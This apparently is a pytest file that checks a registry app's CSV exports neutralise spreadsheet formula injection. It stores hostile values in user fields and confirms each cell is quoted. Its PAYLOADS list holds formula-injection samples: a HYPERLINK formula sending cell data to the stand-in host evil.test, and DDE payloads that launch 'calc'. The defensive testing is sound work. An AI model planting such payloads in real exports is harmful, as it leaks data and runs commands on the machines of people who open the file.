"""CSV formula injection: every CSV export neutralises cells a spreadsheet would run (issue 9).

A value typed by a user that starts with `=`, `+`, `-`, `@`, a tab or a carriage return becomes
a formula when an officer or assessor opens the export in a spreadsheet. Every export writes
through registry/csvexport.py, which puts a single quote in front of such a cell.

Three guards: the helper itself; no module writes CSV any other way; and every CSV route of the
URL map is downloaded with hostile values stored, and no cell of it starts a formula. Adding a
CSV route means adding a line to CSV_EXPORTS below (the test fails until you do).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from datetime import UTC, date, datetime

import pytest

from assessors import profile
from assessors.profile_data import QualificationData, RefereeData
from config import BASE_DIR
from registry.csvexport import FORMULA_STARTS, safe_cell, writer
from registry.extensions import db
from registry.models import Attestation
from support import DEMO_PASSWORD, MadeUser

PAYLOADS = (
    '=HYPERLINK("https://evil.test/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


# --------------------------------------------------------------------------- the helper


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_safe_cell_neutralises_a_formula(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value", ["Amelia Hart", "2026-11-02", "0", "850", "", "a=b", "'quoted", "Dr. @home"]
)
def test_csv_safe_cell_leaves_ordinary_values_alone(value: str) -> None:
    assert safe_cell(value) == value


def test_csv_safe_cell_writes_none_as_empty_and_numbers_as_text() -> None:
    assert (safe_cell(None), safe_cell(42), safe_cell(-5)) == ("", "42", "'-5")


def test_csv_writer_makes_every_cell_safe() -> None:
    out = io.StringIO()
    writer(out).writerows([PAYLOADS, ["plain", None, 3]])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [["'" + p for p in PAYLOADS], ["plain", "", "3"]]


# --------------------------------------------------------------------------- every module


def test_csv_no_module_writes_csv_except_through_the_safe_writer() -> None:
    """csv.writer or csv.DictWriter anywhere else would bypass the neutralising."""
    offenders = []
    for package in ("registry", "assessors"):
        for path in sorted((BASE_DIR / package).rglob("*.py")):
            if path.name == "csvexport.py":
                continue
            source = path.read_text(encoding="utf-8")
            if re.search(r"\bcsv\s*\.\s*(writer|DictWriter)\b|from\s+csv\s+import", source):
                offenders.append(str(path.relative_to(BASE_DIR)))
    assert offenders == []


# --------------------------------------------------------------------------- every export


def _assessor_with_hostile_values(make_assessor) -> MadeUser:
    """An assessor whose every free-text value a spreadsheet could run is a formula."""
    assessor = make_assessor(PAYLOADS[0], PAYLOADS[1])
    assessor.professional_title = PAYLOADS[2]
    assessor.languages = [PAYLOADS[3], "English"]
    assessor.user.full_name = PAYLOADS[4]
    now = datetime.now(UTC)
    db.session.add(
        Attestation(
            assessor_id=assessor.id, statement=PAYLOADS[5], signed_name=PAYLOADS[0], attested_at=now
        )
    )
    db.session.commit()
    profile.add_item(
        assessor.user,
        "qualification",
        QualificationData(PAYLOADS[2], PAYLOADS[3], date(2015, 6, 30)),
        now=now,
    )
    profile.add_item(
        assessor.user,
        "referee",
        RefereeData(PAYLOADS[4], PAYLOADS[5], PAYLOADS[1], "ref@example.org", PAYLOADS[0]),
        now=now,
    )
    return MadeUser(user=assessor.user, password=DEMO_PASSWORD, seed=None)


def _trail_with_hostile_values(make_assessor) -> MadeUser:
    """A register manager, and the register's audit trail naming people whose names are formulas."""
    from registry.audit import record_audit
    from registry.models import AccountStatus, Organisation, OrganisationKind, Role, User

    now = datetime.now(UTC)
    register = Organisation(
        name="Trail Export Register", kind=OrganisationKind.REGISTER_BODY, created_at=now
    )
    manager = User(
        email="trail.manager@example.test",
        full_name="Trail Manager",
        role=Role.REGISTER_MANAGER,
        organisation=register,
        status=AccountStatus.ACTIVE,
        password_hash="signed in by the test client's session",
        totp_enrolled_at=now,
        created_at=now,
    )
    db.session.add(manager)
    for number, payload in enumerate(PAYLOADS):
        actor = User(
            email=f"hostile{number}@example.test",
            full_name=payload,
            role=Role.ASSESSOR,
            status=AccountStatus.ACTIVE,
            created_at=now,
        )
        db.session.add(actor)
        db.session.flush()
        record_audit(actor, "assessor.identity_saved", at=now)
    db.session.commit()
    return MadeUser(user=manager, password=DEMO_PASSWORD, seed=None)


# endpoint -> builds the data for it and returns the account that may download it.
def _commissions_with_hostile_values(make_assessor) -> MadeUser:
    """An officer whose name and whose commissions' references are formulas."""
    from registry.models import (
        AccountStatus,
        Commission,
        CommissionStatus,
        Organisation,
        OrganisationKind,
        Role,
        User,
    )

    now = datetime.now(UTC)
    council = Organisation(
        name="Export Council", kind=OrganisationKind.LOCAL_AUTHORITY, created_at=now
    )
    officer = User(
        email="export.officer@example.test",
        full_name=PAYLOADS[0],
        role=Role.OFFICER,
        organisation=council,
        status=AccountStatus.ACTIVE,
        password_hash="signed in by the test client's session",
        totp_enrolled_at=now,
        created_at=now,
    )
    db.session.add(officer)
    for payload in PAYLOADS:
        db.session.add(
            Commission(
                organisation=council,
                requester=officer,
                status=CommissionStatus.DRAFT,
                case_reference=payload[:50],
                context="cp_plan",
                subject_sex="male",
                subject_age_band="adult",
                conviction_status="convicted",
                offence_categories=["contact_intra_familial"],
                assessment_type="adult_male",
                assessment_purpose="risk",
                access_to_child="lives_in_household",
                needed_by=date(2027, 1, 15),
                created_at=now,
                updated_at=now,
            )
        )
    db.session.commit()
    return MadeUser(user=officer, password=DEMO_PASSWORD, seed=None)


CSV_EXPORTS: dict[str, Callable[..., MadeUser]] = {
    "commissions.export_csv": _commissions_with_hostile_values,
    "assessors.profile_export_csv": _assessor_with_hostile_values,
    "audit_trail.export_csv": _trail_with_hostile_values,
}


def _csv_endpoints(app) -> set[str]:
    return {
        rule.endpoint
        for rule in app.url_map.iter_rules()
        if rule.rule.endswith(".csv") or "csv" in rule.endpoint
    }


def test_csv_every_csv_route_is_listed_here(app) -> None:
    assert _csv_endpoints(app) == set(CSV_EXPORTS), "add the export to CSV_EXPORTS"


@pytest.mark.parametrize("endpoint", sorted(CSV_EXPORTS))
def test_csv_no_cell_of_an_export_starts_a_formula(
    endpoint: str, app, logged_in, make_assessor
) -> None:
    who = CSV_EXPORTS[endpoint](make_assessor)
    (rule,) = app.url_map.iter_rules(endpoint)
    response = logged_in(who).get(rule.rule)
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    cells = [
        cell
        for row in csv.reader(io.StringIO(response.get_data(as_text=True), newline=""))
        for cell in row
    ]
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    quoted = {c[1:] for c in cells if c.startswith("'")}
    assert set(PAYLOADS) <= {q.split("; ")[0] for q in quoted}
